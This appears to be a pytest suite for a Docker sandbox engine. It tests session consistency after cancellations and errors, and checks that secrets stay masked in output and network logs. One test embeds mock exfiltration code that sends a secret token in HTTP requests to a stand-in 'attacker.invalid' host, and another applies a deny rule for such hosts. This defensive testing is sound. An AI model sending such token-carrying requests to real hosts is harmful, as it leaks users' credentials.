"""A persistent session after an error in the middle of an execution, and secrets over its life.

Every interruption a caller can cause (leaving a stream, cancelling, an error in the middle) must
leave the session in step: the next execution gets its own output and exit code, never the
previous one's. Secrets stay masked for the session's whole life, in output and network data.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable

import pytest
from helpers import run_cli

from engine.engine import DockerIsol8
from engine.errors import FileError
from engine.models import ExecutionRequest, NetworkFilter

pytestmark = pytest.mark.docker

LONG = ExecutionRequest(cmd="for i in $(seq 1 100000); do echo tick $i; done; sleep 30; echo never; exit 7")


async def leave_a_stream_early(engine: DockerIsol8) -> None:
    stream = engine.execute_stream(LONG)
    async for event in stream:
        if event.type == "stdout":
            break
    await stream.aclose()


async def cancel_a_buffered_run(engine: DockerIsol8) -> None:
    run = asyncio.ensure_future(engine.execute(LONG))
    await asyncio.sleep(0.5)
    run.cancel()
    await asyncio.gather(run, return_exceptions=True)


async def cancel_while_sending_stdin(engine: DockerIsol8) -> None:
    request = ExecutionRequest(cmd="sleep 30; wc -c", stdin=b"x" * (48 << 20))
    run = asyncio.ensure_future(engine.execute(request))
    await asyncio.sleep(0.05)
    run.cancel()
    await asyncio.gather(run, return_exceptions=True)


async def cancel_while_sending_files(engine: DockerIsol8) -> None:
    files = {f"/sandbox/in{i}.bin": bytes(16 << 20) for i in range(4)}
    run = asyncio.ensure_future(engine.execute(ExecutionRequest(cmd="echo ran; exit 9", files=files)))
    await asyncio.sleep(0.05)
    run.cancel()
    await asyncio.gather(run, return_exceptions=True)


async def break_a_stream_in_its_output_paths(engine: DockerIsol8) -> None:
    request = ExecutionRequest(
        cmd="head -c 48M /dev/zero > /sandbox/out.bin; echo wrote; exit 4", output_paths=["/sandbox/out.bin"]
    )
    stream = engine.execute_stream(request)
    async for event in stream:
        if event.type == "stdout":
            break
    await stream.aclose()


async def fail_on_an_output_path(engine: DockerIsol8) -> None:
    await engine.execute(ExecutionRequest(cmd="mkfifo /sandbox/pipe"))
    with pytest.raises(FileError):
        await engine.execute(ExecutionRequest(cmd="echo before; exit 6", output_paths=["/sandbox/pipe"]))


async def fail_a_file_read(engine: DockerIsol8) -> None:
    await engine.execute(ExecutionRequest(cmd="truncate -s 1T /sandbox/sparse"))
    with pytest.raises(FileError):
        await engine.get_file("/sandbox/sparse")


async def cancel_a_download(engine: DockerIsol8) -> None:
    await engine.execute(ExecutionRequest(cmd="head -c 60M /dev/urandom > /sandbox/big"))
    download = asyncio.ensure_future(engine.get_file("/sandbox/big"))
    await asyncio.sleep(0.02)
    download.cancel()
    await asyncio.gather(download, return_exceptions=True)


INTERRUPTIONS: dict[str, Callable[[DockerIsol8], Awaitable[None]]] = {
    "stream-left-early": leave_a_stream_early,
    "buffered-run-cancelled": cancel_a_buffered_run,
    "cancelled-while-sending-stdin": cancel_while_sending_stdin,
    "cancelled-while-sending-files": cancel_while_sending_files,
    "stream-left-during-output-paths": break_a_stream_in_its_output_paths,
    "output-path-error": fail_on_an_output_path,
    "file-read-error": fail_a_file_read,
    "download-cancelled": cancel_a_download,
}


@pytest.fixture
async def session(docker_client: object) -> AsyncIterator[DockerIsol8]:
    async with DockerIsol8(mode="persistent", runtime="python") as engine:
        await engine.execute(ExecutionRequest(cmd="echo state > /sandbox/kept"))
        yield engine


@pytest.mark.parametrize("interrupt", list(INTERRUPTIONS))
async def test_the_next_execution_gets_its_own_result(session: DockerIsol8, interrupt: str) -> None:
    await INTERRUPTIONS[interrupt](session)
    for number in (1, 2):
        after = await session.execute(ExecutionRequest(cmd=f"cat /sandbox/kept; echo next-{number}; exit {number}"))
        assert (after.stdout, after.exit_code, after.stderr) == (f"state\nnext-{number}\n", number, "")
    assert await session.get_file("/sandbox/kept") == b"state\n"
    await session.put_file("/sandbox/new", b"new")
    assert await session.get_file("/sandbox/new") == b"new"
    processes = await session.execute(ExecutionRequest(cmd="ps -eo comm= | grep -c -E '^(sleep|seq|head|wc)$' || true"))
    assert processes.stdout == "0\n"  # nothing of the interrupted run


# --- secrets for the session's whole life ----------------------------------------------------------
SECRET = "hunter2-session-secret"


@pytest.mark.parametrize(
    "reveal",
    [
        "cat /sandbox/secret.txt",  # written by the first execution
        "rev /sandbox/secret.rev",  # stored reversed, printed forwards
        'echo "$(cat /sandbox/secret.txt)" >&2',  # on stderr
        "python3 -c \"import sys; sys.stdout.write(open('/sandbox/secret.txt').read()[:10]); sys.stdout.flush(); print(open('/sandbox/secret.txt').read()[10:])\"",  # split across writes
    ],
)
async def test_a_secret_given_once_stays_masked_for_the_session(docker_client: object, reveal: str) -> None:
    async with DockerIsol8(mode="persistent", runtime="python") as engine:
        first = await engine.execute(
            ExecutionRequest(
                cmd='printf %s "$TOKEN" > /sandbox/secret.txt; printf %s "$TOKEN" | rev > /sandbox/secret.rev; echo $TOKEN',
                secrets={"TOKEN": SECRET},
            )
        )
        assert first.stdout == "***\n"
        later = await engine.execute(ExecutionRequest(cmd=reveal))
        streamed = [event.data async for event in engine.execute_stream(ExecutionRequest(cmd=reveal))]
    assert SECRET not in later.stdout + later.stderr and "***" in later.stdout + later.stderr, later
    assert SECRET not in "".join(streamed) and "***" in "".join(streamed)


# --- secrets in network data --------------------------------------------------------------------------
TOKEN = "exfil-token-42"
REQUESTS = f"""
import socket
def send(head):
    with socket.create_connection(("127.0.0.1", 8118), timeout=5) as s:
        s.sendall(head.encode())
        s.recv(4096)
send("GET http://{TOKEN}.attacker.invalid/collect?k={TOKEN} HTTP/1.1\\r\\nHost: {TOKEN}.attacker.invalid\\r\\n\\r\\n")
send("CONNECT {TOKEN}.attacker.invalid:443 HTTP/1.1\\r\\nHost: {TOKEN}.attacker.invalid:443\\r\\n\\r\\n")
send("GET http://blocked.invalid/{TOKEN}/x HTTP/1.1\\r\\nHost: blocked.invalid\\r\\n\\r\\n")
print("sent")
"""


async def test_secrets_are_masked_in_every_network_record(docker_client: object) -> None:
    rules = NetworkFilter(blacklist=[r".*\.invalid"])
    async with DockerIsol8(network="filtered", network_filter=rules, log_network=True) as engine:
        result = await engine.execute(ExecutionRequest(code=REQUESTS, secrets={"T": TOKEN}))
        events = [event async for event in engine.execute_stream(ExecutionRequest(code=REQUESTS, secrets={"T": TOKEN}))]
    assert result.stdout == "sent\n", result.stderr
    records = [
        result.model_dump_json(),
        *(event.model_dump_json() for event in events if event.type == "network"),
    ]
    assert result.network_logs and len(result.network_logs) == 3
    assert result.security_events and len(result.security_events) == 3
    assert len(records) == 4
    for record in records:
        assert TOKEN not in record, record
    assert {entry.host for entry in result.network_logs} == {"***.attacker.invalid", "blocked.invalid"}
    assert "/collect?k=***" in {entry.path for entry in result.network_logs}


def test_secrets_are_masked_in_the_clis_network_table() -> None:
    result = run_cli(
        "run", "--net", "filtered", "--deny", r".*\.invalid", "--log-network", "--secret", f"T={TOKEN}", "-e", REQUESTS
    )  # fmt: skip
    assert result.stdout == "sent\n", result.stderr
    assert "Network log" in result.stderr and "***.attacker.invalid" in result.stderr
    assert TOKEN not in result.stdout + result.stderr
